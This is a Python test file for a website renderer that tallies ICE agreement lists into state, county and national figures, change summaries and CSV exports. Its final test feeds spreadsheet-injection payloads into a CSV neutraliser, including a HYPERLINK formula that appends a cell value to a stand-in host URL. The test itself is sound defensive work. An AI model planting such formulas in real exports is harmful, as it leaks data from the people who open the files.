"""The renderer's table-to-table functions, on five-row tables."""

from __future__ import annotations

import pandas as pd
import pytest

from ledger import site as render


def agreements(*rows):
    columns = ["agreement_id", "list_kind", "agency_id", "state", "county", "support_type", "status", "publication_ids"]
    return pd.DataFrame([dict(zip(columns, r)) for r in rows])


def publications(*rows):
    """(publication_id, list_kind, date) -> a publications table with one file each."""
    return pd.DataFrame(
        [
            {"publication_id": p, "list_kind": k, "published_at": pd.Timestamp(d), "file_names": [f"{p}.xlsx"], "sha256s": [f"sha-{p}"], "date_source": "ice_file_name"}
            for p, k, d in rows
        ]
    )


PUBS = publications(("p0", "participating", "2021-01-13"), ("p1", "participating", "2026-02-17"), ("p2", "participating", "2026-02-27"),
                    ("n0", "pending", "2025-02-21"), ("n1", "pending", "2026-02-27"))  # fmt: skip
DATES = dict(zip(PUBS["publication_id"], PUBS["published_at"]))
COUNTIES = ({"id": "48423", "properties": {"name": "Smith"}}, {"id": "50001", "properties": {"name": "Addison"}})


def with_dates(frame):
    last = frame["publication_ids"].map(lambda ids: ids[-1])
    first = frame["publication_ids"].map(lambda ids: ids[0])
    return frame.assign(
        last_listed=last.map(DATES), first_listed=first.map(DATES), first_absent=pd.NaT, first_absent_publication_id="",
    )  # fmt: skip


def test_figures_count_the_statuses_of_the_saved_tables_and_name_their_source_files():
    shown = with_dates(
        agreements(
            ("a", "participating", "TX-a", "TX", "Smith County", "Task Force Model", "active", ["p0", "p1", "p2"]),
            ("b", "participating", "TX-b", "TX", "Smith County", "Jail Enforcement Model", "missing", ["p0", "p1"]),  # in a gap
            ("c", "participating", "TX-c", "TX", None, "Task Force Model", "ended", ["p0"]),
            ("d", "pending", "TX-d", "TX", None, "Task Force Model", "pending", ["n1"]),
            ("e", "pending", "TX-e", "TX", None, "Task Force Model", "missing", ["n0"]),
            ("f", "pending", "TX-f", "TX", None, "Task Force Model", "lapsed", ["n0"]),
        )
    )
    shown.loc[1, "first_absent"] = pd.Timestamp("2026-02-27")
    agencies_shown = pd.DataFrame({"agency_id": [f"TX-{x}" for x in "abcdef"], "status": ["active", "missing", "ended", "pending", "pending", "lapsed"]})
    states = pd.DataFrame({"usps": ["TX", "VT"], "title": ["Texas", "Vermont"], "fips": ["48", "50"], "kind": ["state", "state"]})
    tables = render.figure_tables(shown, agencies_shown.assign(state="TX", first_listed=pd.Timestamp("2021-01-13"), last_listed=pd.Timestamp("2026-02-27")),
                                  PUBS, changes_frame(), states, PUBS.iloc[2], PUBS.iloc[4], COUNTIES)  # fmt: skip
    figures = tables["state_figures.parquet"].set_index("usps")
    assert figures.loc["TX", ["active", "active_tfm", "missing", "ended", "agencies", "pending", "ever"]].tolist() == [1, 1, 1, 1, 1, 1, 3]
    assert figures.loc["VT", ["active", "ever", "changes"]].tolist() == [0, 0, 0] and figures.loc["TX", "changes"] == 3
    national = tables["national_figures.parquet"].iloc[0]
    assert national["participating_changes"] == 5
    assert (national["source_file"], national["source_sha256"], national["pending_sha256"], national["archive_start"]) == ("p2.xlsx", "sha-p2", "sha-n1", "2021-01-13")
    counties = tables["county_figures.parquet"]
    assert counties[["usps", "fips", "county", "active"]].values.tolist() == [["TX", "48423", "Smith", 1]]
    timeline = tables["active_by_day.parquet"]
    on = lambda d: timeline[(timeline["date"] == d) & (timeline["state"] == "TX")].groupby("support_type")["agreements"].sum().to_dict()  # noqa: E731
    assert on("2026-02-27") == {"Jail Enforcement Model": 0, "Task Force Model": 1, "Warrant Service Officer": 0}
    assert on("2026-02-17")["Jail Enforcement Model"] == 1 and set(timeline["publication_id"]) == {"p0", "p1", "p2"}
    agency = tables["agency_figures.parquet"].set_index("agency_id")
    assert agency.loc["TX-b", ["status", "missing", "first_absent", "first_seen_at_start"]].tolist() == ["missing", 1, "2026-02-27", True]


def changes_frame():
    rows = [("p2", "added", "TX"), ("p2", "added", "FL"), ("p2", "moved from pending to signed", "TX"), ("p2", "dropped", "TX"), ("p1", "field changed", "FL")]
    return pd.DataFrame([{"publication_id": p, "list_kind": "participating", "change": c, "state": s} for p, c, s in rows])


def test_each_list_counts_its_changes_nationally_and_per_state_and_says_them_in_words():
    counted = render.list_changes(changes_frame(), PUBS)
    national = counted[(counted["publication_id"] == "p2") & (counted["state"] == "")].iloc[0]
    assert national[["new", "added", "moved_from_pending_to_signed", "dropped", "ended"]].tolist() == [3, 2, 1, 1, 0]
    assert (national["previous_published_at"], national["source_file"]) == ("2026-02-17", "p2.xlsx")
    texas = counted[(counted["publication_id"] == "p2") & (counted["state"] == "TX")].iloc[0]
    assert texas[["new", "dropped"]].tolist() == [2, 1]
    # Every list has a national row, even one that changed nothing.
    assert set(counted[counted["state"] == ""]["publication_id"]) == set(PUBS["publication_id"])
    t = render.Messages("en")
    from ledger.site.pages.common import change_summary

    assert change_summary(t, national) == "3 added, 1 dropped"
    assert change_summary(t, national.copy().replace({0: 2})) == "3 added, 1 dropped, 2 ended, 2 back, 2 renamed, 2 lapsed"
    with pytest.raises(ValueError, match="no count column"):
        render.list_changes(pd.DataFrame([{"publication_id": "p2", "list_kind": "participating", "change": "vanished", "state": "TX"}]), PUBS)


def test_change_details_are_words_from_the_catalog_never_raw_field_names():
    from ledger.site.pages.common import change_details

    t = render.Messages("en")
    details = change_details(t, {"Task Force Model": "Task force", "Jail Enforcement Model": "Jail enforcement"})
    row = lambda field, old, new, detail="": pd.Series({"field": field, "old_value": old, "new_value": new, "detail": detail})  # noqa: E731
    assert details(row("moa_status", "pending", "posted")) == "agreement document: not yet published → published"
    assert details(row("support_type", "Jail Enforcement Model", "Task Force Model")) == "model: Jail enforcement → Task force"
    assert details(row(None, None, None, "in the first list of the archive")) == "in the first list of the archive"
    from ledger.history.rules import FIELDS

    for name in [*FIELDS, "support_type"]:
        assert f"field.{name}" in t.catalog, name
    for value in ["posted", "pending", "none"]:
        assert f"moa_status.{value}" in t.catalog, value


def test_steps_keep_changes_and_close_the_latest_list():
    dates = pd.to_datetime(["2025-01-01", "2025-01-02", "2025-01-03", "2025-01-04"])
    series = pd.DataFrame({"date": dates, "state": "TX", "support_type": "Task Force Model", "agreements": [1, 1, 2, 2]})
    kept = render.steps(series)
    assert kept["date"].dt.strftime("%m-%d").tolist() == ["01-01", "01-03", "01-04", "01-05"]
    assert kept["agreements"].tolist() == [1, 2, 2, 2]


@pytest.mark.parametrize(
    "county, expected",
    [
        ("Smith County", "smith"),
        ("St. Lucie County", "st lucie"),
        ("Saint Johns County", "st johns"),
        ("Calcasieu Parish", "calcasieu"),
        ("Juneau City and Borough", "juneau"),
    ],
)
def test_county_names_are_compared_without_their_kind(county, expected):
    assert render.normalise_county(county) == expected


def test_counties_match_by_fips_and_the_rest_are_listed():
    features = (
        {"id": "48423", "properties": {"name": "Smith"}},
        {"id": "48201", "properties": {"name": "Harris"}},
        {"id": "12111", "properties": {"name": "St. Lucie"}},
    )
    frame = agreements(
        ("a", "participating", "TX-a", "TX", "Smith County", "Task Force Model", "active", ["p"]),
        ("b", "participating", "TX-b", "TX", "Smith County, Harris County", "Task Force Model", "active", ["p"]),
        ("c", "participating", "TX-c", "TX", "Atlantis County", "Task Force Model", "active", ["p"]),
        ("d", "participating", "TX-d", "TX", "Harris County", "Task Force Model", "ended", ["p"]),
    )
    counts, unmatched = render.county_matches(frame, features, "48")
    assert counts == {"48423": 2, "48201": 1}
    assert unmatched == ["Atlantis County"]


def test_removals_per_year_keep_not_reported_apart_from_zero():
    by_agency = pd.DataFrame(
        {
            "agency_name": ["A", "A", "B", "B"],
            "fiscal_year": [2008, 2009, 2008, 2009],
            "removed": [10, None, 0, 5],
            "source": "ICE", "source_url": "https://www.ice.gov/x.pdf",
        }
    )  # fmt: skip
    national = pd.DataFrame({"fiscal_year": [2008, 2009], "removals": [1000, 500], "source": "TRAC", "source_url": ""})
    per_year = render.removals_per_year(by_agency, national)
    assert per_year[["fiscal_year", "removed", "agencies", "national_removed"]].values.tolist() == [[2008, 10, 2, 1000], [2009, 5, 1, 500]]
    assert per_year["share_text"].tolist() == ["1.0%", "1.0%"]
    assert render.num(pd.NA) == "" and render.num(0) == "0"


@pytest.mark.parametrize("value", [None, float("nan"), pd.NA, pd.NaT])
def test_a_missing_value_is_shown_as_nothing_in_every_formatter(value):
    from ledger.site import format as fmt

    assert (fmt.h(value), fmt.md(value), fmt.num(value), fmt.day(value), fmt.safe_url(value), fmt.figure(value)) == ("",) * 6


def test_published_csvs_neutralise_what_a_spreadsheet_would_run_and_keep_numbers():
    import io

    from ledger.common.spreadsheet import csv_text, neutralise

    assert neutralise("\rCR") == "'\rCR" and neutralise(-1) == -1
    names = ['=HYPERLINK("http://x.example/"&A1,"Click for MOA")', "+1+1 Sheriff", "-2 Police", "@SUM(A1)", "\tTab", "Plain Sheriff"]
    frame = pd.DataFrame({"agency_name": names, "active": range(-3, 3), "share": [0.5, -0.25, None, 1.0, 2.0, 3.0]})
    back = pd.read_csv(io.StringIO(csv_text(frame)), keep_default_na=False)
    assert all(not str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in back["agency_name"])
    assert back["agency_name"].tolist()[0] == "'" + names[0] and back["agency_name"].tolist()[-1] == "Plain Sheriff"
    assert back["active"].tolist() == [-3, -2, -1, 0, 1, 2]  # numbers stay numbers, signs included
